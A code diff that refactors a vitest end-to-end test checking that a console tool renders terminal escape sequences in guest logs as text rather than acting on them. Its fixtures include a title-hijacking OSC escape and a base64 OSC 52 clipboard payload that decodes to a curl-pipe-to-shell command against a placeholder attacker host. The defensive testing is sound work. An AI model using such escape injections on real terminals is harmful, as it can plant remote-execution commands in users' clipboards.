@@ -6,21 +6,16 @@
  * console in tmux (with tmux set to let programs write its clipboard) shows them the same way,
  * and the pane keeps its title and the clipboard stays empty.
  */
-import {execFile, execFileSync, spawnSync} from 'node:child_process';
-import {randomBytes} from 'node:crypto';
 import {writeFileSync} from 'node:fs';
 import {join} from 'node:path';
-import {fileURLToPath} from 'node:url';
-import {promisify} from 'node:util';
 import {afterAll, beforeAll, describe, expect, it} from 'vitest';
 import {requireE2E} from '../host/gate.js';
 import {startTestHost, type TestHost} from '../host/harness.js';
 import {swapCommand, writePayload} from '../host/hostile.js';
+import {consoleCommand, projectRoot, proxdeckOnHost} from '../host/cli.js';
+import {hasTmux, testTmux} from '../host/tmux.js';
 
 const gate = requireE2E('hostile-text');
-const run = promisify(execFile);
-const root = fileURLToPath(new URL('../..', import.meta.url));
-const hasTmux = spawnSync('tmux', ['-V']).status === 0;
 
 const TITLE = '\x1b]0;PWNED-TITLE\x07';
 const CLIPBOARD = '\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07';
@@ -29,12 +24,10 @@ const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
 
 describe.skipIf(gate.skip)('guest text with terminal escapes, through the sshd test host', () => {
 	let host: TestHost;
-	let env: NodeJS.ProcessEnv;
 
 	beforeAll(async () => {
 		gate.assert();
 		host = await startTestHost();
-		env = {...process.env, HOME: host.home, USER: 'root'};
 		const record = JSON.stringify({
 			__REALTIME_TIMESTAMP: String(Date.now() * 1000),
 			PRIORITY: '3',
@@ -69,14 +62,7 @@ describe.skipIf(gate.skip)('guest text with terminal escapes, through the sshd t
 		await host?.close();
 	});
 
-	async function once(...args: string[]): Promise<string> {
-		const {stdout} = await run('npx', ['tsx', 'source/cli.tsx', '--host', host.alias, '--once', ...args], {
-			env,
-			cwd: root,
-			maxBuffer: 64 * 1024 * 1024,
-		});
-		return stdout;
-	}
+	const once = async (...args: string[]): Promise<string> => (await proxdeckOnHost(host, ['--once', ...args])).stdout;
 
 	it('--once --pane logs prints the journal message with its escapes shown, not sent', async () => {
 		const out = await once('--pane', 'logs');
@@ -98,29 +84,30 @@ describe.skipIf(gate.skip)('guest text with terminal escapes, through the sshd t
 	}, 60_000);
 
 	describe.skipIf(!hasTmux)('the live console in tmux', () => {
-		const socket = `pd-hostile-${randomBytes(4).toString('hex')}`;
-		const tmux = (...args: string[]): string => execFileSync('tmux', ['-L', socket, ...args], {encoding: 'utf8'});
-		afterAll(() => {
-			spawnSync('tmux', ['-L', socket, 'kill-server']);
-		});
-
-		async function screenWith(pattern: RegExp, what: string): Promise<string> {
-			const deadline = Date.now() + 60_000;
-			let screen = '';
-			while (Date.now() < deadline) {
-				screen = tmux('capture-pane', '-p', '-t', 'console');
-				if (pattern.test(screen)) return screen;
-				await new Promise((resolve) => setTimeout(resolve, 200));
-			}
-			throw new Error(`timed out waiting for ${what}; screen:\n${screen}`);
-		}
+		const server = testTmux('pd-hostile');
+		const tmux = server.run;
+		const screenWith = (pattern: RegExp, what: string): Promise<string> => server.screenWith('console', pattern, what);
+		afterAll(() => server.kill());
 
 		it('keeps the pane title and the clipboard, and shows the escapes as text in the logs pane and the detail view', async () => {
 			// tmux lets programs set the clipboard (OSC 52) and the pane title (OSC 0/2): the attack would land.
 			const conf = join(host.dir, 'tmux.conf');
 			writeFileSync(conf, 'set -g set-clipboard on\nset -g history-limit 0\n');
-			const command = `env -u CI -u FORCE_COLOR LANG=C.UTF-8 HOME='${host.home}' USER=root npx tsx source/cli.tsx --host ${host.alias}; sleep 600`;
-			tmux('-f', conf, 'new-session', '-d', '-s', 'console', '-x', '200', '-y', '50', '-c', root, command);
+			tmux(
+				'-f',
+				conf,
+				'new-session',
+				'-d',
+				'-s',
+				'console',
+				'-x',
+				'200',
+				'-y',
+				'50',
+				'-c',
+				projectRoot,
+				consoleCommand(host),
+			);
 			tmux('select-pane', '-t', 'console', '-T', 'operator');
 			await screenWith(/1 Guests/, 'the console');
 			tmux('send-keys', '-t', 'console', '4');
